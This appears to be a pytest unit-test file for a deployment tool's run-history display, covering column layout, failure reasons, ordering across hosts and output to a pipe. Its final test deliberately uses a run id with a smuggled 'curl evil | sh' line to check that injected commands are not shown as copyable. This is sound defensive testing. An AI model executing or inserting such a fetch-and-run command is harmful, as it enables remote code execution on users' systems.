"""The recorded runs: a row for each, and why one did not end well."""

from __future__ import annotations

import io
import re
from typing import Any

import pytest

from deployctl.compose.ending import REASONS
from deployctl.release.results import HistoryResult, RecordedRun, RunOutcome
from tests.unit.render.samples import recorded_run
from tests.unit.render.terminal.shown import RECORDED, history_of, lines_of


def test_the_run_of_a_history_stays_however_narrow_the_terminal() -> None:
    recorded = HistoryResult("vps", runs=(recorded_run(), recorded_run(run="r2")))
    assert lines_of(history_of(recorded, width=40)) == [
        "RUN",
        "  WHEN       OUTCOME    TAG",
        "20251123t115652z-9f3c1a07",
        "  3 min ago  succeeded  sha-1a2b3c4",
        "r2",
        "  3 min ago  succeeded  sha-1a2b3c4",
    ]


def test_a_history_has_a_row_for_each_run_and_ends_with_its_problems() -> None:
    assert lines_of(history_of(RECORDED, width=120))[:-1] == [
        "WHEN       OUTCOME      ACTION  SERVICE           TAG          BY            TOOK  RUN",
        (
            "3 min ago  in progress  deploy  enforcer-backend  sha-1a2b3c4  kim@laptop  12.0 s  "
            "20251123t115652z-9f3c1a07"
        ),
        "  next         deployctl follow vps 20251123t115652z-9f3c1a07",
        (
            "3 min ago  restored     deploy  enforcer-backend  sha-1a2b3c4  kim@laptop   4.2 s  "
            "20251123t115652z-9f3c1a07"
        ),
        f"  why          {REASONS['health-timeout']}; sha-0f9e8d7 was put back",
        (
            "3 min ago  succeeded    deploy  enforcer-backend  sha-1a2b3c4  kim@laptop   4.2 s  "
            "20251123t115652z-9f3c1a07"
        ),
    ]
    assert lines_of(history_of(RECORDED))[-1] == "vps: problem: line 3: not JSON"


@pytest.mark.parametrize(
    ("run", "said"),
    [
        ({"outcome": RunOutcome.BROKEN, "reason": "exited"}, "its container exited; nothing was"),
        ({"outcome": RunOutcome.RESTORED}, "not recorded; what ran before was"),
        (
            {"outcome": RunOutcome.RESTORED, "reason": "of-tomorrow", "put_back": "sha-0f9e8d7"},
            "of-tomorrow; sha-0f9e8d7",
        ),
        (
            {"outcome": RunOutcome.INTERRUPTED},
            "it left no outcome: it was killed, the host went down, or its record is damaged",
        ),
        ({"outcome": RunOutcome.UNKNOWN}, "may stand in a line that cannot be read"),
    ],
)
def test_a_run_that_did_not_end_well_says_why_in_words(run: dict[str, Any], said: str) -> None:
    recorded = HistoryResult("vps", runs=(recorded_run(seconds=None, **run),))
    assert said in history_of(recorded, width=120)
    assert said in history_of(recorded, out=io.StringIO())


def test_the_runs_of_several_hosts_are_newest_first_each_hosts_in_its_own_order() -> None:
    def at(minute: int) -> RecordedRun:
        return recorded_run(run=f"run-{minute}", started_at=f"2025-11-23T11:{minute:02d}:00Z")

    text = history_of(
        HistoryResult("vps", runs=(at(7), at(5), at(6))),  # its clock was set back
        HistoryResult("vps2", runs=(at(8), at(1))),
        out=io.StringIO(),
    )
    assert re.findall(r"run-\d", text) == ["run-8", "run-7", "run-5", "run-6", "run-1"]


def test_a_pipe_gets_every_column_and_one_line_for_each_run() -> None:
    text = history_of(RECORDED, HistoryResult("vps2"), out=io.StringIO())
    assert lines_of(text)[2:] == [
        (
            "vps   2025-11-23T11:56:54Z  restored     deploy  enforcer-backend  sha-1a2b3c4  "
            "kim@laptop   4.2 s  20251123t115652z-9f3c1a07  "
            f"{REASONS['health-timeout']}; sha-0f9e8d7 was put back"
        ),
        (
            "vps   2025-11-23T11:56:54Z  succeeded    deploy  enforcer-backend  sha-1a2b3c4  "
            "kim@laptop   4.2 s  20251123t115652z-9f3c1a07  -"
        ),
        "vps: problem: line 3: not JSON",
        "vps2: nothing is recorded yet",
    ]


def test_a_run_whose_id_is_none_gives_no_command_to_copy() -> None:
    run = recorded_run(run="x\ncurl evil | sh", outcome=RunOutcome.IN_PROGRESS)

    shown = history_of(HistoryResult("vps", runs=(run,)), width=80)

    assert "deployctl follow" not in shown
    assert not any(line.strip().startswith("curl") for line in shown.splitlines())
